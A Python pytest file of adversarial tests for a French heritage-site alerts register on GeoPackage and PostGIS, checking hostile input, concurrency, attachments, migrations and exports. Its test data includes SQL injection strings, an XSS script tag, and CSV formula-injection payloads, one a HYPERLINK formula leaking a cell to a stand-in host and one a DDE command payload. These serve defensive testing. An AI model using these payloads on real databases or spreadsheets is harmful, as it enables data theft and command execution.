"""Adversarial tests of the alerts register («sites en péril») on GeoPackage and PostGIS: hostile and odd text in
every field, odd element identifiers, long lists, lost updates and closing races between processes, attachments
at the edges, 10 000 alerts, migration while other processes open the register, a read-only register, a PostGIS
connection lost mid-update, exports of an empty register, CSV formula injection and impossible dates.
"""

import csv
import hashlib
import multiprocessing
import os
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import time
import uuid
from datetime import date
from pathlib import Path

import pytest
import shapely
from cli_helpers import assert_french_error, run
from test_register import Target, raw

from veille_plugin.core.alerts import exports, service
from veille_plugin.core.alerts.filters import OPEN, filter_alerts
from veille_plugin.core.alerts.model import EDITABLE_FIELDS, ETATS, validate_alert
from veille_plugin.core.errors import InputError, VeilleError
from veille_plugin.core.register import LATEST_VERSION, RegisterConnectionError, RegisterError, open_register
from veille_plugin.core.register.alerts import AlertConflictError

SPAWN = multiprocessing.get_context("spawn")
ROOT = Path(__file__).resolve().parents[2]
HERE = (690000.0, 7040000.0)  # Lambert-93, Vendin-le-Vieil, away from the elements

#: Text that has broken other programs: SQL, quotes, HTML, emoji, right-to-left, combining marks, NUL, CSV specials.
HOSTILE = [
    "'; DROP TABLE alerts; --",
    "Robert'); DELETE FROM alert_history WHERE ('1'='1",
    '" OR 1=1 -- \\ %s %(x)s ? $1',
    "<script>alert('x')</script>",
    "Terril 🏭⛏️ effondré 👷‍♀️",
    "\u202eتحذير\u202c مبنى مهدد",
    "e\u0301te\u0301 — «guillemets» ‘apostrophes’",
    "avant\x00après",
    "ligne 1\r\nligne 2\ttab",
    ";;;|||\\N\\t",
]


@pytest.fixture(params=["gpkg", "postgis"])
def target(request, tmp_path):
    if request.param == "gpkg":
        return Target("gpkg", str(tmp_path / "registre.gpkg"))
    return Target("postgis", request.getfixturevalue("postgis_dsn"), "x_" + uuid.uuid4().hex[:12])


def _point(dx=0.0, dy=0.0):
    return shapely.Point(HERE[0] + dx, HERE[1] + dy)


def _nfc(text):
    import unicodedata

    return unicodedata.normalize("NFC", text.replace("\x00", "")).strip()


# --------------------------------------------------------------------------- hostile text, both back ends
@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_in_every_free_field_is_stored_exactly(target, text):
    free = {f: text for f, kind, _ in EDITABLE_FIELDS if kind in ("text", "longtext") and f not in ("motif_cloture",)}
    free["dossier_veille"] = text[:60]
    with target.open() as reg:
        a = reg.add_alert(dict(free, partenaires=[text, "DRAC"]), author=text, geometry=_point())
        got = reg.get_alert(a)
        for f, v in free.items():
            assert got[f] == _nfc(v), f
        assert got["auteur"] == _nfc(text) or got["auteur"] == text.strip()
        reg.update_alert(a, {"description": text + " (2)"}, author=text)
        reg.add_attachment(a, text.encode("utf-8"), text, filename=text + ".txt", description=text)
        reg.close_alert(a, text, text, statut="perdue")
        closed = reg.get_alert(a)
        assert closed["motif_cloture"] == _nfc(text) and closed["statut"] == "perdue"
        hist = reg.alert_history(a)
        assert [h["action"] for h in hist].count("création") == 1 and hist[-1]["action"] == "clôture"
        assert f"Titre : {got['titre']}" in hist[0]["new"]  # the creation entry holds the text as stored
        assert reg.attachment_content(reg.attachments(a)[0]["id"]) == text.encode("utf-8")
    # the tables are still there and hold exactly one alert
    assert raw(target, "SELECT count(*) FROM alerts")[0][0] == 1
    assert raw(target, "SELECT count(*) FROM alert_history")[0][0] == len(hist)


def test_nul_in_author_and_attachment_description_is_not_a_crash(target):
    """PostgreSQL refuses NUL in text: a NUL typed or pasted anywhere must not end in a Python traceback."""
    with target.open() as reg:
        a = reg.add_alert({"titre": "NUL"}, "ud\x00ap62", geometry=_point())
        assert reg.get_alert(a)["auteur"] == "udap62"
        reg.update_alert(a, {"etat": "bon"}, "dr\x00ac")
        att = reg.add_attachment(a, b"x", "moi", filename="a.txt", description="lé\x00gende")
        assert [x["description"] for x in reg.attachments(a) if x["id"] == att] == ["légende"]
        assert {h["author"] for h in reg.alert_history(a)} == {"udap62", "drac", "moi"}


def test_undecodable_command_line_text_is_stored_not_a_traceback(target):
    """Arguments typed in a Latin-1 terminal reach Python as lone surrogates («\\udce9»): never a UnicodeEncodeError."""
    with target.open() as reg:
        a = reg.add_alert(
            {"titre": "\udce9t\udce9 \ud800", "description": "caf\udce9"}, "ag\udce9nt", geometry=_point()
        )
        got = reg.get_alert(a)
    assert got["titre"] == "été \ufffd" and got["description"] == "café" and got["auteur"] == "agént"


def test_undecodable_title_through_the_cli(tmp_path):
    cfg = tmp_path / "cfg"
    env = dict(os.environ, VEILLE_CONFIG_DIR=str(cfg), PYTHONIOENCODING="utf-8")
    reg = tmp_path / "r.gpkg"
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "veille_plugin",
            "alerts",
            "add",
            "--register",
            str(reg),
            "--element",
            "63V",
            "--titre",
            os.fsdecode(b"Fa\xe7ade \xe9croul\xe9e"),
            "--json",
        ],
        cwd=ROOT,
        env=env,
        capture_output=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr.decode("utf-8", "replace")
    assert b"Traceback" not in proc.stderr
    with open_register(str(reg)) as r:
        assert r.get_alert(1)["titre"] == "Façade écroulée"


def test_injection_through_field_names_and_filters_is_refused(target):
    with target.open() as reg:
        a = reg.add_alert({"titre": "x"}, "moi", geometry=_point())
        with pytest.raises(InputError, match="inconnu"):
            reg.update_alert(a, {"titre = 'pwn', version": "y"}, "moi")
        with pytest.raises(InputError, match="inconnu"):
            reg.add_alert({"titre": "x", "geom) VALUES (NULL); --": "1"}, "moi", geometry=_point())
        assert len(reg.alerts(statut="' OR 1=1 --")) == 0
        assert len(reg.alerts(element="63V' OR '1'='1")) == 0
        assert len(reg.alerts(priorite=["A' --"])) == 0
        assert reg.get_alert(a)["titre"] == "x" and reg.get_alert(a)["version"] == 1
    assert raw(target, "SELECT count(*) FROM alerts")[0][0] == 1


# --------------------------------------------------------------------------- elements and lists
def test_element_identifiers_in_odd_forms(ref):
    for odd in (" 63v ", "63 V", "63\u00a0V", "６３Ｖ", "63V\u200b", "\t63V\n"):
        values, _ = service.prepare({"titre": "x", "elements": [odd]}, ref)
        assert values["elements"] == "63V", repr(odd)
    values, _ = service.prepare({"titre": "x", "elements": "63V;63v; 63 V |42b"}, ref)
    assert values["elements"] == "63V; 42B"
    with pytest.raises(InputError) as err:
        service.prepare({"titre": "x", "elements": ["63V", "'; DROP TABLE alerts; --", "<b>", "0"]}, ref)
    text = str(err.value)
    assert (
        "« '; DROP TABLE alerts; -- »" in text
        and "« <b> »" in text
        and "« 0 »" in text
        and "63V" not in text.split("inconnu")[0]
    )
    values, _ = service.prepare({"titre": "x", "elements": ["", " ", "\t"]}, ref, _point())
    assert values["elements"] is None


def test_alert_on_a_whole_composante_with_many_elements_is_accepted(target, ref):
    """A cité or a whole component gathers dozens of elements: their derived names must not hit a length limit."""
    ids = ref.elements.attributes["identifiant"].astype(str).tolist()
    many = ids[:60]
    values, geom = service.prepare({"titre": "Cité entière", "elements": many}, ref)
    assert len(values["elements_noms"]) > 500
    with target.open() as reg:
        a = reg.add_alert(values, "moi", geometry=geom)
        got = reg.get_alert(a)
        assert service.split_list(got["elements"]) == many
        assert reg.alerted_elements() == set(many)
        assert len(reg.alerts(element=many[-1])) == 1


def test_very_long_lists_are_refused_with_the_field_named():
    with pytest.raises(InputError, match="« Partenaires alertés » : liste trop longue"):
        validate_alert({"titre": "x", "partenaires": [f"Partenaire n° {k}" for k in range(500)]})
    v = validate_alert({"titre": "x", "partenaires": ["DRAC"] * 10000, "menaces": ["1.1"] * 5000 + ["13"]})
    assert v["partenaires"] == "DRAC" and v["menaces"] == "1.1; 13"
    with pytest.raises(InputError, match="« Description » : 20001 caractères, 20000 au plus"):
        validate_alert({"titre": "x", "description": "é" * 20001})
    assert len(validate_alert({"titre": "🏭" * 200})["titre"]) == 200  # counted in characters, not bytes


@pytest.mark.parametrize(
    "value,expected",
    [
        ("29/02/2024", "2024-02-29"),
        ("2024-02-29", "2024-02-29"),
        (" 1/3/2024 ", "2024-03-01"),
        ("2024-05-02T10:30:00", "2024-05-02"),
    ],
)
def test_dates_that_exist_are_read(value, expected):
    assert validate_alert({"titre": "x", "date_constat": value}, today=date(2026, 1, 1))["date_constat"] == expected


@pytest.mark.parametrize(
    "value",
    [
        "29/02/2023",
        "2023-02-29",
        "31/04/2024",
        "00/01/2024",
        "32/01/2024",
        "01/13/2024",
        "2024-13-01",
        "2024-05-021",
        "2024-05-02garbage",
        "02/05/24",
        "hier",
        "🗓️",
        "2024/05/02/01",
    ],
)
def test_impossible_dates_are_refused_with_the_field_named(value):
    with pytest.raises(InputError) as err:
        validate_alert({"titre": "x", "date_constat": value}, today=date(2026, 1, 1))
    assert "« Date du constat » : date" in str(err.value) and "illisible" in str(err.value)


def test_tomorrow_is_the_future_and_today_is_not():
    today = date(2024, 2, 28)
    assert validate_alert({"titre": "x", "date_constat": "28/02/2024"}, today=today)["date_constat"] == "2024-02-28"
    with pytest.raises(InputError, match="dans le futur"):
        validate_alert({"titre": "x", "date_constat": "29/02/2024"}, today=today)


# --------------------------------------------------------------------------- concurrency
def _etat_writer(spec, schema, alert_id, ready, stop):
    from veille_plugin.core.register import open_register as op

    values = ["très mauvais", "mauvais", "passable", "bon"]
    with op(spec, schema=schema) as reg:
        ready.set()  # a spawned process may take seconds to start on a busy machine: the editor waits for it
        k = 0
        while not stop.is_set():
            reg.update_alert(alert_id, {"etat": values[k % 4]}, "writer")
            k += 1


def test_update_with_expected_values_never_loses_a_concurrent_write(target):
    """An editor saving with the values it started from, while another process keeps changing the same field:
    each save either changes exactly the value the editor saw, or is refused — never a silent overwrite."""
    with target.open() as reg:
        a = reg.add_alert({"titre": "Course", "etat": "bon"}, "moi", geometry=_point())
    ready, stop = SPAWN.Event(), SPAWN.Event()
    writer = SPAWN.Process(target=_etat_writer, args=(target.spec, target.schema, a, ready, stop))
    writer.start()
    saved = refused = 0
    try:
        assert ready.wait(120), "the writer process did not start"
        with target.open() as reg:
            start = time.monotonic()
            # at least 5 s, and until both outcomes were seen (at most 60 s on a very busy machine)
            while time.monotonic() - start < 5.0 or not (saved and refused):
                if time.monotonic() - start > 60.0:
                    break
                seen = reg.get_alert(a)["etat"]
                time.sleep(0.002)  # the editor thinks: the writer gets its chance
                new = next(e for e in ETATS if e != seen)
                try:
                    changes = reg.update_alert(a, {"etat": new}, "editeur", expected={"etat": seen})
                except AlertConflictError as exc:
                    assert "« État »" in str(exc) and "rien n'a été enregistré" in str(exc)
                    refused += 1
                    continue
                for field, old, value in changes:
                    if field == "etat":
                        assert old == seen, "the editor overwrote a value it never saw"
                        assert value == new
                saved += 1
    finally:
        stop.set()
        writer.join(60)
        if writer.is_alive():
            writer.kill()
    assert writer.exitcode == 0
    assert saved and refused, (saved, refused)  # both outcomes happened: the test did race
    with target.open() as reg:
        hist = [h for h in reg.alert_history(a) if h["field"] == "etat"]
        # the history chains: each change starts from the value the previous one left
        assert all(h1["old"] == h0["new"] for h0, h1 in zip(hist, hist[1:]))


def test_two_editors_closing_the_same_alert_at_once(target):
    """Both read the alert open, both close it: the second must be told it is already closed, the first motif kept."""
    with target.open() as reg1, target.open() as reg2:
        a = reg1.add_alert({"titre": "Course à la clôture"}, "moi", geometry=_point())
        original = reg1.get_alert

        def get_then_other_closes(alert_id):
            seen = original(alert_id)
            reg2.close_alert(alert_id, "Sauvé par la commune", "agent B", statut="sauvegardée")
            return seen

        reg1.get_alert = get_then_other_closes
        with pytest.raises(InputError, match="déjà close"):
            reg1.close_alert(a, "Démoli", "agent A", statut="perdue")
        reg1.get_alert = original
        got = reg1.get_alert(a)
        assert (got["statut"], got["motif_cloture"]) == ("sauvegardée", "Sauvé par la commune")
        assert [h["author"] for h in reg1.alert_history(a) if h["field"] == "statut"] == ["agent B"]
        assert [h["author"] for h in reg1.alert_history(a) if h["action"] == "création"] == ["moi"]


def _closer(spec, schema, alert_id, who, start, out):
    from veille_plugin.core.errors import InputError as IE
    from veille_plugin.core.register import open_register as op

    with op(spec, schema=schema) as reg:
        start.wait(60)
        for k in range(15):
            try:
                reg.close_alert(alert_id, f"motif {who} {k}", who, statut="levée")
                out.put((who, "close"))
            except IE:
                pass
            try:
                reg.update_alert(alert_id, {"statut": "en alerte"}, who)
            except IE:
                pass


def test_closing_and_reopening_races_keep_a_consistent_alert(target):
    with target.open() as reg:
        a = reg.add_alert({"titre": "Ping-pong"}, "moi", geometry=_point())
    start, out = SPAWN.Event(), SPAWN.Queue()
    procs = [SPAWN.Process(target=_closer, args=(target.spec, target.schema, a, f"p{k}", start, out)) for k in range(3)]
    for p in procs:
        p.start()
    start.set()
    for p in procs:
        p.join(120)
    assert [p.exitcode for p in procs] == [0, 0, 0]
    closes = 0
    while not out.empty():
        out.get()
        closes += 1
    with target.open() as reg:
        got = reg.get_alert(a)
        hist = reg.alert_history(a)
    statut = [h for h in hist if h["field"] == "statut"]
    assert all(h1["old"] == h0["new"] for h0, h1 in zip(statut, statut[1:]))  # no transition lost or invented
    assert sum(1 for h in hist if h["action"] == "clôture" and h["field"] == "statut") == closes
    # never closed → closed twice in a row: every «clôture» starts from an open status
    assert all(h["old"] == "en alerte" or h["old"] == "signalée" for h in statut if h["action"] == "clôture")
    assert (got["closed_at"] is None) == (got["statut"] in ("signalée", "en alerte"))
    assert got["version"] == 1 + sum(1 for h in hist if h["field"] == "statut" and h["action"] != "création")


# --------------------------------------------------------------------------- attachments at the edges
def test_attachments_at_the_edges(target, tmp_path, monkeypatch):
    import veille_plugin.core.register.alerts as mod

    monkeypatch.setattr(mod, "MAX_ATTACHMENT_BYTES", 1000)
    empty = tmp_path / "vide.txt"
    empty.write_bytes(b"")
    exact = tmp_path / "juste.bin"
    exact.write_bytes(os.urandom(1000))
    over = tmp_path / "trop.bin"
    over.write_bytes(b"x" * 1001)
    folder = tmp_path / "dossier.jpg"
    folder.mkdir()
    with target.open() as reg:
        a = reg.add_alert({"titre": "PJ"}, "moi", geometry=_point())
        e = reg.add_attachment(a, empty, "moi")
        assert reg.attachment_content(e) == b"" and reg.attachments(a)[0]["sha256"] == hashlib.sha256(b"").hexdigest()
        x1 = reg.add_attachment(a, exact, "moi")
        x2 = reg.add_attachment(a, exact, "moi")  # the same file twice: both kept, same content
        assert x1 != x2 and reg.attachment_content(x1) == reg.attachment_content(x2) == exact.read_bytes()
        assert reg.add_attachment(a, b"y" * 1000, "moi", filename="mem.bin")
        with pytest.raises(InputError, match="trop.bin refusée"):
            reg.add_attachment(a, over, "moi")
        with pytest.raises(InputError, match="refusée"):
            reg.add_attachment(a, b"y" * 1001, "moi", filename="mem.bin")
        with pytest.raises(InputError) as err:
            reg.add_attachment(a, folder, "moi")
        assert "dossier.jpg" in str(err.value)
        with pytest.raises(InputError, match="nom du fichier"):
            reg.add_attachment(a, b"abc", "moi")

        def unreadable(self):
            raise PermissionError(13, "Permission non accordée", str(self))

        monkeypatch.setattr(Path, "read_bytes", unreadable)
        with pytest.raises(InputError) as err:
            reg.add_attachment(a, exact, "moi")
        assert "juste.bin" in str(err.value) and "illisible" in str(err.value)
        monkeypatch.undo()
        atts = reg.attachments(a)
        assert [x["size"] for x in atts] == [0, 1000, 1000, 1000]
        assert [h["action"] for h in reg.alert_history(a)].count("pièce jointe") == 4
        out = tmp_path / "sortie"
        paths = [reg.save_attachment(x["id"], out) for x in atts[:3]]
        assert [p.name for p in paths] == ["vide.txt", "juste.bin", "juste (2).bin"]
        assert paths[0].read_bytes() == b"" and paths[2].read_bytes() == exact.read_bytes()


def test_tampered_attachment_is_detected(target):
    with target.open() as reg:
        a = reg.add_alert({"titre": "PJ"}, "moi", geometry=_point())
        att = reg.add_attachment(a, b"original", "moi", filename="o.txt")
    # someone edits the blob behind the plugin's back (the trigger forbids UPDATE: drop it the way an admin would)
    if target.kind == "gpkg":
        conn = sqlite3.connect(target.spec)
        conn.execute("DROP TRIGGER alert_attachments_no_update")
        conn.execute("UPDATE alert_attachments SET content = ? WHERE id = ?", (b"falsifie", att))
        conn.commit()
        conn.close()
    else:
        raw(target, "ALTER TABLE alert_attachments DISABLE TRIGGER USER", fetch=False)
        raw(target, "UPDATE alert_attachments SET content = 'falsifie'::bytea WHERE id = %s", (att,), fetch=False)
    with target.open() as reg:
        with pytest.raises(InputError, match="altérée"):
            reg.attachment_content(att)


# --------------------------------------------------------------------------- volume
def _bulk_insert(target, n):
    from veille_plugin.core.register.gpkg import encode_geometry

    statuts = ["signalée", "en alerte", "travaux", "levée"]
    rows = []
    for k in range(n):
        wkb = shapely.to_wkb(_point(k % 1000, k // 1000), byte_order=1, flavor="iso")
        st = statuts[k % 4]
        rows.append(
            (
                f"Alerte {k} ; <b>{k}</b>",
                st,
                "ABCDEF"[k % 6],
                f"{k % 353 + 1}",
                "robot",
                "2024-01-01T00:00:00Z",
                1,
                "2024-01-01T00:00:00Z" if st == "levée" else None,
                "motif" if st == "levée" else None,
                wkb,
            )
        )
    cols = "titre, statut, priorite, elements, auteur, created_at, version, closed_at, motif_cloture"
    if target.kind == "gpkg":
        conn = sqlite3.connect(target.spec)
        conn.executemany(
            f"INSERT INTO alerts ({cols}, geom) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
            [r[:-1] + (encode_geometry(r[-1]),) for r in rows],
        )
        conn.commit()
        conn.close()
        return
    import psycopg2
    import psycopg2.extras

    conn = psycopg2.connect(target.spec, options=f"-c search_path={target.schema},public")
    with conn, conn.cursor() as cur:
        psycopg2.extras.execute_values(
            cur,
            f"INSERT INTO alerts ({cols}, geom) VALUES %s",
            [r[:-1] + (psycopg2.Binary(r[-1]),) for r in rows],
            template="(%s, %s, %s, %s, %s, %s, %s, %s, %s, ST_GeomFromWKB(%s, 2154))",
            page_size=2000,
        )
    conn.close()


def test_ten_thousand_alerts_list_filter_and_export_quickly(target, tmp_path):
    with target.open():
        pass
    _bulk_insert(target, 10_000)
    with target.open() as reg:
        t0 = time.perf_counter()
        df = reg.alerts()
        t_list = time.perf_counter() - t0
        assert len(df) == 10_000
        t0 = time.perf_counter()
        assert len(reg.alerts(ouvertes=True)) == 7_500
        assert len(reg.alerts(element="42B")) == 0 and len(reg.alerts(element="5")) == 29
        danger = reg.alerted_elements()
        mask = filter_alerts(df, statut=OPEN, priorite="A", text="ALERTE")
        t_filter = time.perf_counter() - t0
        assert len(danger) == 353 - 0 and mask.sum() == sum(1 for k in range(10_000) if k % 4 != 3 and k % 6 == 0)
        t0 = time.perf_counter()
        html = exports.export(reg, "liste", "html", tmp_path / "l.html")
        exports.export(reg, "liste", "csv", tmp_path / "l.csv")
        exports.export(reg, "rapport", "csv", tmp_path / "r.csv")
        t_export = time.perf_counter() - t0
        reg.add_alert({"titre": "La 10 001e"}, "moi", geometry=_point())
        assert len(reg.alerts()) == 10_001
    assert "&lt;b&gt;9999&lt;/b&gt;" in html.read_text(encoding="utf-8")
    assert t_list < 5 and t_filter < 10 and t_export < 30, (t_list, t_filter, t_export)


# --------------------------------------------------------------------------- migration, read-only file, lost connection
def _open_and_add(spec, schema, k, start, out):
    import shapely as shp

    from veille_plugin.core.register import open_register as op

    start.wait(60)
    with op(spec, schema=schema) as reg:
        a = reg.add_alert({"titre": f"Alerte du processus {k}"}, f"p{k}", geometry=shp.Point(690000 + k, 7040000))
        out.put((k, reg.schema_version, a))


def test_v3_register_migrated_while_several_processes_open_it(target):
    from test_register import case, frame

    with target.open(target_version=3) as reg:
        reg.upsert_cases(frame(case("PC 1"), case("PC 2")), None, "robot")
        cases_before = reg.get_cases()
    start, out = SPAWN.Event(), SPAWN.Queue()
    n = 5
    procs = [SPAWN.Process(target=_open_and_add, args=(target.spec, target.schema, k, start, out)) for k in range(n)]
    with target.open(target_version=3) as old:  # an old client keeps the register open meanwhile
        for p in procs:
            p.start()
        start.set()
        for p in procs:
            p.join(120)
        assert len(old.get_cases()) == 2
    assert [p.exitcode for p in procs] == [0] * n
    results = [out.get(timeout=5) for _ in range(n)]
    assert {v for _, v, _ in results} == {LATEST_VERSION} and len({a for _, _, a in results}) == n
    versions = [r[0] for r in raw(target, "SELECT version FROM schema_migrations ORDER BY version")]
    assert versions == list(range(1, LATEST_VERSION + 1))  # each migration applied exactly once
    with target.open() as reg:
        assert len(reg.alerts()) == n
        assert len(reg.get_cases()) == len(cases_before) == 2


_READONLY_SCRIPT = r"""
import sys
import shapely
from veille_plugin.core.register import open_register
from veille_plugin.core.errors import VeilleError
try:
    with open_register(sys.argv[1]) as reg:
        print("LU", len(reg.alerts()), flush=True)
        reg.add_alert({"titre": "Nouvelle"}, "nobody", geometry=shapely.Point(690000, 7040000))
    print("ECRIT")
except VeilleError as exc:
    print("ERREUR", exc)
"""


def _reachable_by_others(path: Path) -> bool:
    """Whether another account can reach ``path`` (every parent directory traversable by «others»)."""
    import stat

    return all(p.stat().st_mode & stat.S_IXOTH for p in [path, *path.parents] if p.is_dir())


def test_read_only_connection_gives_a_french_error_and_loses_nothing(tmp_path):
    """Same check as below without changing account: the register's connection is reopened read-only (what
    SQLite does for a file the account may not write), wherever the checkout lives."""
    import sqlite3

    path = tmp_path / "registre.gpkg"
    with open_register(str(path)) as reg:
        reg.add_alert({"titre": "Existante"}, "moi", geometry=_point())
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    with open_register(str(path)) as reg:
        reg._conn.close()
        reg._conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True, isolation_level=None)
        assert len(reg.alerts()) == 1
        with pytest.raises(VeilleError) as err:
            reg.add_alert({"titre": "Nouvelle"}, "moi", geometry=_point())
    text = str(err.value)
    assert (
        str(path) in text and "lecture seule" in text and "droits" in text and text.startswith("Le registre de veille")
    )
    assert hashlib.sha256(path.read_bytes()).hexdigest() == digest


@pytest.mark.skipif(
    not hasattr(os, "getuid") or os.getuid() != 0,
    reason="needs root to run the check as another user (root ignores file modes)",
)
@pytest.mark.skipif(
    not _reachable_by_others(Path(sys.executable).parent) or not _reachable_by_others(ROOT),
    reason="the checkout or its .venv is in a directory other accounts cannot enter (e.g. a mktemp -d clone): "
    "test_read_only_connection_gives_a_french_error_and_loses_nothing covers the message",
)
def test_read_only_register_gives_a_french_error_and_loses_nothing():
    work = Path(tempfile.mkdtemp(prefix="veille_ro_"))
    try:
        os.chmod(work, 0o777)
        path = work / "registre.gpkg"
        with open_register(str(path)) as reg:
            reg.add_alert({"titre": "Existante"}, "moi", geometry=_point())
        os.chmod(path, 0o444)
        digest = hashlib.sha256(path.read_bytes()).hexdigest()

        def as_nobody():
            os.setgid(65534)
            os.setuid(65534)

        env = dict(os.environ, PYTHONPATH=str(ROOT), VEILLE_CONFIG_DIR=str(work / "cfg"), HOME=str(work))
        proc = subprocess.run(
            [sys.executable, "-c", _READONLY_SCRIPT, str(path)],
            env=env,
            cwd=str(work),
            capture_output=True,
            text=True,
            timeout=120,
            preexec_fn=as_nobody,
        )
        assert "Traceback" not in proc.stderr, proc.stderr
        assert "LU 1" in proc.stdout, proc.stdout + proc.stderr
        assert "ECRIT" not in proc.stdout
        err = proc.stdout.split("ERREUR", 1)[1]
        assert str(path) in err and "lecture seule" in err and "droits" in err, err
        assert err.strip().startswith("Le registre de veille")
        assert hashlib.sha256(path.read_bytes()).hexdigest() == digest
    finally:
        shutil.rmtree(work, ignore_errors=True)


def test_postgis_connection_lost_mid_update(postgis_dsn):
    import psycopg2

    t = Target("postgis", postgis_dsn, "l_" + uuid.uuid4().hex[:12])
    reg = t.open()
    try:
        a = reg.add_alert({"titre": "Avant coupure", "etat": "mauvais"}, "moi", geometry=_point())
        pid = reg._conn.get_backend_pid()

        def cut():
            admin = psycopg2.connect(postgis_dsn)
            admin.autocommit = True
            with admin.cursor() as cur:
                cur.execute("SELECT pg_terminate_backend(%s)", (pid,))
            admin.close()

        reg._hook_before_commit = cut
        with pytest.raises(RegisterConnectionError) as err:
            reg.update_alert(a, {"etat": "très mauvais", "titre": "Pendant la coupure"}, "moi")
        assert "perdue" in str(err.value) and "Rouvrez" in str(err.value)
        reg._hook_before_commit = None
        with pytest.raises(RegisterError) as err:  # the same object afterwards: a French error, not a crash
            reg.get_alert(a)
        assert "registre" in str(err.value).lower()
    finally:
        reg.close()
    with t.open() as again:
        got = again.get_alert(a)
        assert (got["titre"], got["etat"], got["version"]) == ("Avant coupure", "mauvais", 1)
        assert not [h for h in again.alert_history(a) if h["action"] != "création"]


# --------------------------------------------------------------------------- exports
def test_exports_of_an_empty_register(target, tmp_path, ref):
    with target.open() as reg:
        outs = {}
        for kind, fmt in (("liste", "html"), ("liste", "csv"), ("rapport", "html"), ("rapport", "csv")):
            outs[(kind, fmt)] = exports.export(reg, kind, fmt, tmp_path / f"{kind}.{fmt}")
        dossier = exports.export(reg, "dossier", "html", tmp_path / "d.html", element="63V", ref=ref).read_text(
            encoding="utf-8"
        )
        dossier_csv = exports.export(reg, "dossier", "csv", tmp_path / "d.csv", element="63V")
        with pytest.raises(InputError, match="Alerte n° 1 inconnue"):
            exports.export(reg, "dossier", "html", tmp_path / "a.html", alert_id=1)
    assert "0 alerte(s), dont 0 ouverte(s)" in outs[("liste", "html")].read_text(encoding="utf-8")
    header = next(csv.reader(outs[("liste", "csv")].read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert header[:4] == ["N°", "Priorité", "Statut", "Titre"]
    assert "Aucune alerte" in dossier
    assert dossier_csv.exists()
    assert "Facteur" in outs[("rapport", "csv")].read_text(encoding="utf-8-sig")


def test_csv_export_neutralises_formula_injection(target, tmp_path):
    payloads = ['=HYPERLINK("http://exemple.invalid/?leak="&A1;"Cliquez")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
    with target.open() as reg:
        for p in payloads:
            reg.add_alert({"titre": p, "proprietaire_nom": p}, "moi", geometry=_point())
        path = exports.export(reg, "liste", "csv", tmp_path / "l.csv")
    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    cells = [r["Titre"] for r in rows] + [r["Propriétaire"] for r in rows]
    assert len(cells) == 8
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert sorted(set(cells)) == sorted(
        "'" + p for p in payloads
    )  # the text is kept, marked as text for the spreadsheet


def test_cli_refuses_impossible_date_and_writes_nothing(tmp_path):
    cfg = tmp_path / "cfg"
    reg = tmp_path / "r.gpkg"
    assert_french_error(
        run(cfg, "alerts", "add", "--register", reg, "--element", "63V", "--titre", "x", "--date", "29/02/2023"),
        "« Date du constat »",
        "29/02/2023",
    )
    with open_register(str(reg)) as r:
        assert len(r.alerts()) == 0
